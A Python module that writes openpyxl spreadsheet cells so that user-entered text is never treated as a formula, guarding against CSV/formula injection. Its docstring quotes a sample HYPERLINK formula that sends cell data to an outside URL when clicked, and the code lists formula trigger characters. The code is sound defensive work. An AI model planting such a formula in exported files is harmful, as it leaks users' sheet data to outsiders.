"""Cells for every workbook the system writes: what users wrote stays text, whatever it begins with.

A spreadsheet takes a cell that begins with =, +, -, @, a tab or a line break for a formula, so
a plan item called `=HYPERLINK("https://…?"&A2, "详情")` would leak the sheet to whoever clicks it
(OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection, which lists those
characters and, for CSV, prepends a single quote). In an .xlsx file Excel's own single quote is not
a character of the value but a flag of the cell's style, quotePrefix: so every text is written as
a string (never a formula element) and one that begins with a trigger also carries quotePrefix.
Excel and LibreOffice then show exactly what was typed and keep it text when the cell is edited,
and reading the file back (the plan import does) gives the user's text unchanged, without a stray
quote. Characters XML cannot carry (NUL and the other C0 controls but tab and line breaks) are
dropped rather than failing the whole export.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# OWASP's list (CSV_Injection, "ensure that no cells begin with any of the following characters").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
MAX_CELL_CHARS = 32767  # Excel's limit for one cell
SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

CellValue = str | int | float | Decimal | date | datetime | None


def text_cell(sheet: Worksheet, value: str) -> Cell:
    """A cell holding value as text: never a formula, an error code or a number."""
    text = ILLEGAL_CHARACTERS_RE.sub("", value)[:MAX_CELL_CHARS]
    cell = Cell(sheet)
    cell.value = text
    cell.data_type = "s"  # set after the value: openpyxl makes "=…" a formula and "#N/A" an error
    if text.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def row(sheet: Worksheet, values: Iterable[CellValue]) -> list[Cell | CellValue]:
    """Values ready for sheet.append: every string as a text cell, numbers and dates as they are."""
    return [text_cell(sheet, value) if isinstance(value, str) else value for value in values]


def append(sheet: Worksheet, values: Iterable[CellValue]) -> None:
    """The one way an export adds a row."""
    sheet.append(row(sheet, values))


def sheet_title(text: str) -> str:
    """A valid sheet name from any text (Excel: at most 31 characters, none of [ ] : * ? / \\)."""
    cleaned = SHEET_TITLE_FORBIDDEN.sub("_", ILLEGAL_CHARACTERS_RE.sub("", text)).strip("'")
    return cleaned[:31] or "Sheet"
